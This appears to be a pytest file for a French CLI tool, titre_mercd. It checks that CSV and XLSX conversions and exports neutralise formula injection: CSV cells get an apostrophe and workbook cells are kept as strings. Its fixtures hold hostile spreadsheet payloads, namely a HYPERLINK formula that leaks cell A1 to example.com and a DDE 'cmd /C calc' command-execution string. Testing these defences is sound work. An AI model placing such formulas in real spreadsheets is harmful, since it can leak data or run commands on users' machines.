"""Text from the data is never run as a formula, in a CSV file or in a workbook.

A data directory (an import of a hostile export) whose bloc titles read as formulas
(``=HYPERLINK(…)``, ``@SUM(…)``, ``+…``, ``-…``, a tab first, ``#N/A``) is converted and
exported. In a workbook, every cell written from the data is a string cell; in CSV, a cell
written from the data that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a ``'`` before it (OWASP's advice against CSV injection). Cells copied from the input are
kept: byte for byte in CSV, as they were in a workbook.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from test_cli import LAUNCHERS, run
from test_data_directories import NEW_KEY, add_a_successor, shipped_data
from titre_mercd._cells import FORMULA_STARTS, csv_text
from titre_mercd._manifest import write_manifest

if TYPE_CHECKING:
    import subprocess
    from pathlib import Path

CLI = LAUNCHERS["python -m titre_mercd"]
OLD_KEY = "2018-12-11"

# The made-up version's two bloc titles, in pairs: each pair is one data directory.
HOSTILE_TITLES = {
    "hyperlink": ('=HYPERLINK("https://example.com/?d="&A1,"Cliquez ici")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    "signs": ("+33 1 23 45 67 89", "-2+3"),
    "tab and error value": ("\t=1+1", "#N/A"),
}  # fmt: skip


def hostile_directory(root: Path, titles: tuple[str, str]) -> Path:
    """The shipped data, plus version NEW_KEY whose two bloc titles are ``titles``."""
    shutil.copytree(shipped_data(), root, ignore=shutil.ignore_patterns("__pycache__"))
    add_a_successor(root)
    path = root / f"versions/{NEW_KEY}.json"
    payload = json.loads(path.read_text(encoding="utf-8"))
    for block, title in zip(payload["version"]["blocks"], titles):
        block["title"] = title
        sources = payload["block_sources"][str(block["number"])]
        for name in ("number", "title"):
            sources[name] = {**sources[name], "excerpt": title}
    path.write_text(json.dumps(payload, ensure_ascii=False, indent=2), encoding="utf-8")
    (root / "texts/test-2029.txt").write_text("\n".join(titles) + "\n", encoding="utf-8")
    write_manifest(root, "2026.1+test.hostile")
    return root


@pytest.fixture(params=sorted(HOSTILE_TITLES))
def hostile(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, tuple[str, str]]:
    """A data directory with hostile bloc titles, and those titles."""
    titles = HOSTILE_TITLES[request.param]
    return hostile_directory(tmp_path / "hostile data", titles), titles


def titre_mercd(data: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run(CLI, "--data", str(data), *args)


# ---------------------------------------------------------------- the rule


@pytest.mark.parametrize("first", FORMULA_STARTS)
def test_a_cell_starting_as_a_formula_gets_an_apostrophe(first: str) -> None:
    assert csv_text(first + "1+1") == "'" + first + "1+1"


@given(st.text())
def test_the_apostrophe_is_the_only_change_and_no_cell_reads_as_a_formula(text: str) -> None:
    written = csv_text(text)
    assert not written.startswith(FORMULA_STARTS)
    assert written in (text, "'" + text)
    assert (written == text) == (not text.startswith(FORMULA_STARTS))


# ---------------------------------------------------------------- CSV

# Input cells that read as formulas too: copied byte for byte, never prefixed.
CSV_INPUT = (
    "nom;note;CCP obtenus\r\n"
    f"=1+1;-3;{OLD_KEY}/1\r\n"
    f'"@evil";+4;{NEW_KEY}/1\r\n'
    f'"\tTabulé";=A1;{OLD_KEY}/2\r\n'
)


def test_convert_csv_writes_the_added_columns_as_text(
    hostile: tuple[Path, tuple[str, str]], tmp_path: Path
) -> None:
    data, (first, second) = hostile
    source, out = tmp_path / "candidats.csv", tmp_path / "candidats-new.csv"
    source.write_bytes(CSV_INPUT.encode())
    result = titre_mercd(data, "convert", "--from", OLD_KEY, "--to", NEW_KEY, "--csv",
                         str(source), "--column", "CCP obtenus", "-o", str(out))  # fmt: skip
    assert result.returncode == 0, result.stderr
    written = out.read_bytes()
    # Every input line is kept byte for byte, the added fields after it.
    lines_in = CSV_INPUT.encode().split(b"\r\n")[:-1]
    for line_in, line_out in zip(lines_in, written.split(b"\r\n")):
        assert line_out.startswith(line_in + b";")
    rows = list(csv.reader(io.StringIO(written.decode(), newline=""), delimiter=";"))
    added = [row[3:] for row in rows[1:4]]
    # 2018-12-11/1 leads to the new bloc 2; the new bloc 1 is held as itself; 2018-12-11/2 to none.
    assert added == [
        [csv_text(second), csv_text(first), "no", ""],
        [csv_text(first), csv_text(second), "no", ""],
        ["", csv_text(f"{first} | {second}"), "no", ""],
    ]
    assert not [cell for row in added for cell in row if cell.startswith(FORMULA_STARTS)]
    assert [row[:3] for row in rows[1:4]] == [
        ["=1+1", "-3", f"{OLD_KEY}/1"],
        ["@evil", "+4", f"{NEW_KEY}/1"],
        ["\tTabulé", "=A1", f"{OLD_KEY}/2"],
    ]


def test_convert_csv_for_excel_writes_the_added_columns_as_text(
    hostile: tuple[Path, tuple[str, str]], tmp_path: Path
) -> None:
    data, (first, second) = hostile
    source, out = tmp_path / "candidats.csv", tmp_path / "candidats-new.csv"
    source.write_bytes(CSV_INPUT.replace(";", ",").encode())
    result = titre_mercd(data, "convert", "--from", OLD_KEY, "--to", NEW_KEY, "--csv",
                         str(source), "--column", "CCP obtenus", "--excel", "-o", str(out))  # fmt: skip
    assert result.returncode == 0, result.stderr
    text = out.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[1] == ["=1+1", "-3", f"{OLD_KEY}/1", csv_text(second), csv_text(first), "no", ""]


def test_the_csv_export_writes_the_data_as_text(
    hostile: tuple[Path, tuple[str, str]], tmp_path: Path
) -> None:
    data, (first, second) = hostile
    result = titre_mercd(data, "export", "--format", "csv", "-o", str(tmp_path / "tables"))
    assert result.returncode == 0, result.stderr
    for table in (tmp_path / "tables").iterdir():
        with table.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], table.name
    with (tmp_path / "tables/blocks.csv").open(encoding="utf-8", newline="") as file:
        titles = [row["title"] for row in csv.DictReader(file) if row["version_key"] == NEW_KEY]
    assert titles == [csv_text(first), csv_text(second)]


# ---------------------------------------------------------------- workbooks

openpyxl = pytest.importorskip("openpyxl", reason="the excel extra (openpyxl) is not installed")

from libreoffice import read_back, soffice  # noqa: E402  (after the skip without openpyxl)
from test_xlsx import write_workbook  # noqa: E402

WORKBOOK_HEADER = ["nom", "note", "CCP obtenus"]
WORKBOOK_ROWS = [
    ["=1+1", -3, f"{OLD_KEY}/1"],
    ["#N/A", "+4", f"{NEW_KEY}/1"],
    ["@evil", "=A1", f"{OLD_KEY}/2"],
]


def cells(path: Path, sheet: str | None = None) -> list[list[tuple[object, str]]]:
    """Each cell of a sheet as written: its value and its type (``s`` a string, ``f`` a
    formula, ``e`` an error value, ``n`` a number), as openpyxl reads the file."""
    workbook = openpyxl.load_workbook(path)
    worksheet = workbook[sheet] if sheet else workbook.worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in worksheet.iter_rows()]


def convert_workbook(data: Path, tmp_path: Path) -> Path:
    source = write_workbook(tmp_path / "candidats.xlsx", WORKBOOK_HEADER, WORKBOOK_ROWS)
    out = tmp_path / "candidats-new.xlsx"
    result = titre_mercd(data, "convert", "--from", OLD_KEY, "--to", NEW_KEY, "--input",
                         str(source), "--column", "CCP obtenus", "-o", str(out))  # fmt: skip
    assert result.returncode == 0, result.stderr
    return out


def test_convert_input_writes_the_added_columns_as_string_cells(
    hostile: tuple[Path, tuple[str, str]], tmp_path: Path
) -> None:
    data, (first, second) = hostile
    written = cells(convert_workbook(data, tmp_path))
    added = [[value for value, _ in row[3:]] for row in written[1:]]
    assert added == [
        [second, first, "no", None],
        [first, second, "no", None],
        [None, f"{first} | {second}", "no", None],
    ]
    types = {kind for row in written for value, kind in row if value is not None}
    assert types <= {"s", "n"}
    # The input cells keep what they were: text stays text, a number a number.
    assert [row[:3] for row in written[1:]] == [
        [("=1+1", "s"), (-3, "n"), (f"{OLD_KEY}/1", "s")],
        [("#N/A", "s"), ("+4", "s"), (f"{NEW_KEY}/1", "s")],
        [("@evil", "s"), ("=A1", "s"), (f"{OLD_KEY}/2", "s")],
    ]


def test_the_exported_workbook_holds_the_data_as_string_cells(
    hostile: tuple[Path, tuple[str, str]], tmp_path: Path
) -> None:
    data, (first, second) = hostile
    out = tmp_path / "tables.xlsx"
    result = titre_mercd(data, "export", "--format", "xlsx", "-o", str(out))
    assert result.returncode == 0, result.stderr
    workbook = openpyxl.load_workbook(out)
    kinds = {
        c.data_type
        for worksheet in workbook.worksheets
        for row in worksheet.iter_rows()
        for c in row
        if c.value is not None
    }
    assert kinds == {"s"}
    blocks = [row for row in workbook["blocks"].iter_rows(values_only=True) if row[0] == NEW_KEY]
    assert [row[2] for row in blocks] == [first, second]


@pytest.mark.libreoffice
def test_libreoffice_shows_the_titles_as_text(
    hostile: tuple[Path, tuple[str, str]], tmp_path: Path
) -> None:
    soffice()
    data, (first, second) = hostile
    converted = read_back(convert_workbook(data, tmp_path), tmp_path / "lo")
    assert [row[3:5] for row in converted["Candidats"][1:3]] == [[second, first], [first, second]]
    assert [row[:2] for row in converted["Candidats"][1:]] == [
        ["=1+1", "-3"], ["#N/A", "+4"], ["@evil", "=A1"]
    ]  # fmt: skip
    exported = tmp_path / "tables.xlsx"
    result = titre_mercd(data, "export", "--format", "xlsx", "-o", str(exported))
    assert result.returncode == 0, result.stderr
    blocks = read_back(exported, tmp_path / "lo-export")["blocks"]
    assert [row[2] for row in blocks if row[0] == NEW_KEY] == [first, second]
